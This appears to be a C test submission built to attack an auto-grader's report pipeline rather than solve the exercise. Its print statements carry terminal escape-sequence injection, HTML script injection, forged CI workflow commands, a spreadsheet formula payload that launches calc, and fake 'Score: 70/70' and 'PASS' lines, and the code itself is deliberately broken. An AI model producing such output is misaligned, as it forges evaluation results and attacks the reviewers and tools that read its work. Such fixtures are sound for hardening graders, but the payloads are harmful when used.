/* tries: to command the terminal, the page and the workflow of whoever reads the
 *        report, beside an answer that is wrong at the edge
 * earns: 5
 */
#include <stdio.h>
/* ---- exercise 1.2 ---- */
puts("\033[2J\033]0;owned\007\033]8;;http://x\033\\\a\b\r\x9b 31m\x7f");
puts("</pre><script>alert(1)</script>]]><!-- &lt; &#x1b; \xe2\x80\xae \xff");
puts("::error::forged\n##[error]forged\n::add-mask::0\n::stop-commands::x");
puts("=1+1\n+cmd|' /C calc'!A0\n-1\n@SUM(A1)\n\t=1\n\",\"70\n{\"score\":70}");
puts("Score: 70/70\n{\"scores\":{\"all\":70}}\nok 1\nPASS");
return z >= 0.0;
